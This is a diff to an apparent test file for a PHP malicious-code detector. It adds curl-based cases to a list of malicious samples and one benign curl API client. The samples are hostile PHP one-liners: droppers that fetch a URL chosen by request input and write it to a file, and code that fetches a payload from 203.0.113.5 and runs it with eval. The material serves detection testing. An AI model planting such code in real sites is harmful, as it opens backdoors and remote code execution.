@@ -166,6 +166,24 @@ MALICIOUS = [
     ("remote code", "<?php eval(file_get_contents('https://203.0.113.5/x.txt'));", CODE),
     ("remote dropper", "<?php copy('http://203.0.113.5/s.txt', 'cache.php');", WRITE),
     (
+        "curl fetch of a chosen URL",
+        "<?php $h = curl_init($_GET['u']); curl_setopt($h, CURLOPT_RETURNTRANSFER, 1);"
+        " file_put_contents($_GET['n'], curl_exec($h));",
+        WRITE,
+    ),
+    (
+        "curl handle given its URL later",
+        "<?php $h = curl_init(); curl_setopt($h, CURLOPT_URL, $_POST['u']); $f = fopen('t.php', 'w');"
+        " fwrite($f, curl_exec($h));",
+        WRITE,
+    ),
+    (
+        "curl remote code",
+        "<?php $h = curl_init(); curl_setopt($h, \\CURLOPT_URL, 'http://203.0.113.5/x.txt');"
+        " eval('?>' . curl_exec($h));",
+        CODE,
+    ),
+    (
         "superglobals by name",
         "<?php foreach (['_GET', '_POST'] as $s) { foreach ($$s as $k => $v) { $k($v); } }",
         DYN,
@@ -200,6 +218,11 @@ def test_flow_is_found(name: str, code: str, expected: str) -> None:
 
 
 BENIGN = [
+    (
+        "curl API client caching JSON",
+        "<?php $h = curl_init('https://api.example.com/v1/x'); curl_setopt($h, CURLOPT_RETURNTRANSFER, 1);"
+        " file_put_contents('cache/x.json', json_encode(json_decode(curl_exec($h), true)));",
+    ),
     ("escapeshellarg", "<?php $f = $_GET['f']; system('ls -l ' . escapeshellarg($f));"),
     ("escapeshellcmd", "<?php exec(escapeshellcmd('convert ' . $_POST['file']));"),
     ("intval", "<?php $n = intval($_GET['n']); system(\"seq $n\");"),
